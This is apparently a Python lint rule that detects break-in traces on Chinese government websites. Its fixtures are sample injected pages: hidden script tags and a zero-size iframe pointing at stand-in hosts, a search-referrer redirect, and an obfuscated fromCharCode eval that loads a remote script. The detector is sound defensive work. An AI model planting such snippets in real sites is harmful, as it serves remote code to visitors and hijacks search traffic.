"""GOV8002 SuspiciousScript: the traces of a break-in: advertising titles, injected scripts and frames, switches."""

from __future__ import annotations

from collections.abc import Iterator

from govlint.finding import Finding, Severity, Text, Verdict
from govlint.lint.context import Context
from govlint.lint.rule import Example, Expected, Needs, Scope, rule
from govlint.site.site import Site

from .injected_said import said

_TITLE = """<html><head>
<title>&#21271;&#20140;&#36187;&#36710;&#23448;&#26041;&#24179;&#21488;</title></head><body>某局</body></html>"""
_EARLY = """<script src="http://js.aa881.com/x.js"></script>
<!DOCTYPE html><html><body>某局</body></html>"""
_FRAME = """<html><body>某局
<iframe src="http://t.bb772.net/" width="0" height="0"></iframe></body></html>"""
_CODED = """<html><body>某局
<script>eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,39,60,115,99,114,105,112,
116,32,115,114,99,61,47,47,99,99,51,46,99,111,109,47,97,46,106,115,62,39,41))</script></body></html>"""
_SWITCH = """<html><body>某局
<script>if (document.referrer.indexOf("baidu") > 0) location.href = "http://www.dd991.com/";</script></body></html>"""
_LATE = """<html><body>某局</body></html>
<script src="//tj.ee3.com/t.js"></script>"""
_FINE = """<html><head><title>公安局破获时时彩网络赌博案</title></head><body>
<script>document.write(unescape("%3Cscript src='//s4.cnzz.com/z_stat.php%3Fid%3D1'%3E%3C/script%3E"));</script>
<script>if (/iPhone|Android/.test(navigator.userAgent)) location.href = "/m/";</script>
<iframe src="login.html" width="0" height="0"></iframe></body></html><script src="/js/count.js"></script>"""


def _example(zh: str, en: str, page: str, *expected: Expected) -> Example:
    return Example(Text(zh, en), {"index.html": page}, expected, hosts=("www.example.gov.cn",))


@rule(
    "GOV8002",
    "SuspiciousScript",
    scope=Scope.SITE,
    needs=Needs.LITERAL,
    severity=Severity.ERROR,
    summary=Text(
        "页面有被植入的痕迹：标题被换成博彩、色情词，页首页尾被插入外部脚本或框架，脚本用编码掩盖去向，或对搜索引擎来的访问者另作处理。",
        "A page shows traces of a break-in: an advertising title, foreign scripts or frames put in at its ends, coded "
        "scripts, or scripts that treat visitors from search engines in another way.",
    ),
    why=Text(
        "网站被入侵后，页面本身往往看起来正常，只有搜索引擎和从搜索引擎来的人看到被换的内容；页面被篡改未及时处置属于单项否决情形。",
        "A page that was broken into often looks as ever, but for search engines and who comes from them; a page that "
        "stays tampered with is a veto.",
    ),
    remedy=Text(
        "删去这些代码，查清植入途径，检查模板、数据库和服务器上的其他文件；是统计等自用代码的，改用明文并放进页面主体。",
        "Delete the code, find out how it came in, look through templates, database and server; write code of your own "
        "in the clear, within the page.",
    ),
    examples=(
        _example("被换成博彩词的标题", "A gambling title", _TITLE, Expected("index.html", 2, 8, "标题")),
        _example(
            "插在文档之前的外部脚本",
            "A script before the document",
            _EARLY,
            Expected("index.html", 1, 1, "js.aa881.com"),
        ),
        _example("没有大小的框架", "A frame of no size", _FRAME, Expected("index.html", 2, 1, "t.bb772.net")),
        _example("用字符编码写的脚本", "A script in character codes", _CODED, Expected("index.html", 2, 1, "cc3.com")),
        _example("只对搜索来的人跳转", "A switch", _SWITCH, Expected("index.html", 2, 1, "dd991.com")),
        _example(
            "文档之后的外部脚本",
            "A script behind the document",
            _LATE,
            Expected("index.html", 2, 1, "ee3.com", Verdict.REVIEW),
        ),
        _example("统计、手机版和自用框架", "Statistics, a mobile version, a frame of its own", _FINE),
    ),
    basis=("national-2019:veto-safety",),
    tags=("safety", "single-file"),
)
def suspicious_script(site: Site, _context: Context) -> Iterator[Finding]:
    """Yield a finding for each thing put into pages of *site*, with the number of its pages."""
    yield from said(site)
